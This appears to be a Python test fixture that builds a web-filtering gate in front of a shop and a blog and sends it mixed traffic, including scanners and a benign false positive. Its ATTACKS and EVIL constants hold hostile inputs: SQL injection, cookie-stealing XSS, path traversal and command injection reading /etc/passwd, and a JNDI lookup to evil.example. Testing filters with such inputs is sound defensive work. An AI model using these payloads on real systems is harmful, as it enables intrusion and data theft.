"""world.py -- a gate with two apps, and what comes to it: people, scanners, attacks, a false positive."""
import os
import re
import subprocess
import sys

from lib.client import Client, trusting
from lib.gate import Gate
from lib.origin import Origin, answer
from lib.ports import free_port

MMDB = os.path.join(os.path.dirname(os.path.abspath(__file__)), "..", "tools", "mmdb.py")
AGENT = "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"
BOTS = ("Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)", "GPTBot/1.2", "curl/8.5.0")
ATTACKS = (
    "/search?q=1%27%20UNION%20SELECT%20password%20FROM%20users--%20", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E",
    "/download?file=../../../../etc/passwd", "/?x=$%7Bjndi:ldap://evil.example/a%7D", "/ping?host=127.0.0.1;cat%20/etc/passwd",
    "/.env", "/.git/config", "/cgi-bin/.%2e/.%2e/bin/sh",
)
# Of the networks that the test's geo files know: FR, DE with an AS each; then of nowhere.
ADDRESSES = ("192.0.2.9", "198.51.100.9", "203.0.113.9", "2001:db8::9", "198.18.0.7")
# An editor of a blog writes about scripts: the attack that is none, of seven people. And one in another field.
ARTICLE = b"title=A+first+script&text=Type+%3Cscript%3Ealert(1)%3C/script%3E"
EVIL = b"title=x&comment=%3Cscript%3Ealert(document.cookie)%3C/script%3E"


class World:
    """An origin and a gate before it; `with` gives the gate, which has .base, the dashboard's address."""

    def __init__(self, redis=None, name="here", **app):
        self.origin = Origin(answering=lambda request: answer(200, b"<p>The shop", (b"Content-Type: text/html",)))
        self.app, self.redis = app, {"url": redis, "name": name} if redis else None

    def __enter__(self):
        self.origin.__enter__()
        self.gate = Gate(None, start=False)
        self.gate.tls_port = free_port()
        try:
            for name, kind in (("country", "world"), ("as", "as")):
                subprocess.run([sys.executable, MMDB, self.gate.path(f"{name}.mmdb"), kind], check=True, timeout=20)
            with open(self.gate.path("known.txt"), "w", encoding="ascii") as out:
                out.writelines(f"100.64.{i // 250}.{i % 250}\n" for i in range(1500))
            with open(self.gate.path("secret"), "w", encoding="ascii") as out:
                out.write("what gates of one installation share")
            self.gate.write(self.config())
            self.gate.start()
        except BaseException:
            self.__exit__(*sys.exc_info())
            raise
        self.gate.base = f"http://127.0.0.1:{self.gate.admin_port}"
        return self.gate

    def __exit__(self, *why):
        try:
            self.gate.__exit__(*why)
        finally:
            self.origin.__exit__(*why)

    def shared(self):
        admin = {"bind": f"127.0.0.1:{self.gate.admin_port}", "cluster_writes": True}
        return {"redis": self.redis, "secret": "file:secret", "admin": admin} if self.redis else {}

    def config(self):
        shop = {"upstream": self.origin.url, "hosts": ["shop.example"], **self.app}
        blog = {"upstream": self.origin.url, "hosts": ["blog.example"], "log": {"body": True}, "rules": [{"path": "/members/*", "do": "challenge"}]}
        listen = [{"bind": f"127.0.0.1:{self.gate.port}"}, {"bind": f"127.0.0.1:{self.gate.tls_port}", "tls": True}]
        return {"listen": listen, "client_ip": {"trust": ["127.0.0.0/8"]}, "geo": ["country.mmdb", "as.mmdb"],
                "cti": {"lists": [{"name": "known-scanners", "file": "known.txt", "do": "challenge"}]},
                "scenarios": {"packs": True}, **self.shared(), "apps": {"shop": shop, "blog": blog}}


def send(gate, address, target="/", method="GET", fields=(), body=None, host="shop.example", agent=AGENT):
    with gate.connect() as client:
        return client.ask(method, target, fields_of(agent, address, fields), body, host=host)


def send_secure(gate, address, target):
    """The same over TLS, by Python's own handshake."""
    with Client(("127.0.0.1", gate.tls_port), tls=trusting(), name="shop.example") as client:
        return client.ask("GET", target, fields_of(AGENT, address, ()), host="shop.example")


def fields_of(agent, address, fields):
    return [f"User-Agent: {agent}", "Accept: text/html", "Accept-Language: en", f"X-Forwarded-For: {address}", *fields]


def post(gate, address, body, target="/articles", host="blog.example"):
    return send(gate, address, target, "POST", ["Content-Type: application/x-www-form-urlencoded"], body, host)


def lively(gate):
    """Traffic of all kinds; the id of the false positive's last request."""
    for i in range(40):
        send(gate, f"198.18.1.{i % 20 + 1}", f"/products/{i}", host="shop.example" if i % 3 else "blog.example")
    for n, address in enumerate(ADDRESSES):
        for target in ATTACKS[n % 3:n % 3 + 4]:
            send(gate, address, target)
    for i in range(5):
        send(gate, f"198.18.2.{i + 1}", "/members/area", host="blog.example")
    for i in range(9):
        send(gate, f"198.18.6.{i + 1}", "/", agent=BOTS[i % len(BOTS)])
    for i in range(30):  # a scan of what is not there
        send(gate, "198.18.3.3", f"/backup{i}.zip")
    gate.ctl("decisions", "add", "198.18.9.9", "4h")
    got = [post(gate, f"198.18.4.{i + 1}", ARTICLE) for i in range(7)]
    return got[-1].fields.get("x-request-id")


def setup_link(gate):
    """Where the first administrator makes an account."""
    said = gate.ctl("user", "setup").stdout
    found = re.search(r"#setup=\S+", said)
    assert found, f"no link: {said!r}"
    return f"{gate.base}/{found[0]}"
